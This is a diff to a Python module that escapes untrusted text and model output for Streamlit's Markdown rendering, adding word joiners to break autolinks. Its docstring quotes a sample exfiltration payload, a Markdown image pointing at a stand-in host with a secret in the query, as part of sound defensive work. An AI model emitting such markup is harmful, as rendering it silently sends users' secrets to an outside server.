@@ -2,8 +2,9 @@
 
 Retrieved passages, OCR text, transcripts, file names and the model's own output are data: a planted
 ``![x](http://host/?q=secret)`` or ``[click](http://host)`` must show as those characters, never as an
-image the browser fetches or a link. ``st.markdown``, ``st.caption``, ``st.info``/``st.error`` and
-button labels all parse Markdown, so every untrusted string goes through :func:`plain` first.
+image the browser fetches or a link. Text without styling is drawn with ``st.text`` (no parsing at all);
+``st.caption``, ``st.info``/``st.error``, ``st.markdown`` and labels parse Markdown, so every untrusted
+string that reaches them goes through :func:`plain` first.
 """
 
 from __future__ import annotations
@@ -12,13 +13,22 @@ import re
 import string
 
 # CommonMark lets a backslash escape any ASCII punctuation character, which then shows literally; this
-# also stops GFM autolinks (``http://``, ``www.``, e-mail) and Streamlit's ``:color[...]`` and ``$math$``.
+# also stops Streamlit's ``:color[...]`` and ``$math$``.
 _PUNCTUATION = re.compile("([" + re.escape(string.punctuation) + "])")
+
+# GitHub-flavoured Markdown also turns bare addresses into links *after* escapes are resolved
+# (``http://…``, ``www.…``, ``name@host``); an invisible word joiner breaks each pattern.
+_AUTOLINK = re.compile(r"(?i)(?<=https:)(?=//)|(?<=http:)(?=//)|(?<=\bwww)(?=\.)|(?=@)")
+JOINER = "\u2060"
 
 
 def plain(text: str) -> str:
-    """`text` escaped so that Markdown renders it character for character (line breaks kept)."""
-    escaped = _PUNCTUATION.sub(r"\\\1", text)
+    """`text` escaped so that Markdown renders it as the same characters (line breaks kept), with no
+    link: an invisible word joiner (U+2060) sits inside web and e-mail addresses.
+
+    For text that needs no styling, ``st.text`` (no parsing at all) is simpler; this is for the
+    surfaces that only take Markdown (captions, alerts, labels)."""
+    escaped = _PUNCTUATION.sub(r"\\\1", _AUTOLINK.sub(JOINER, text))
     return escaped.replace("\r\n", "\n").replace("\n", "  \n")
 
 
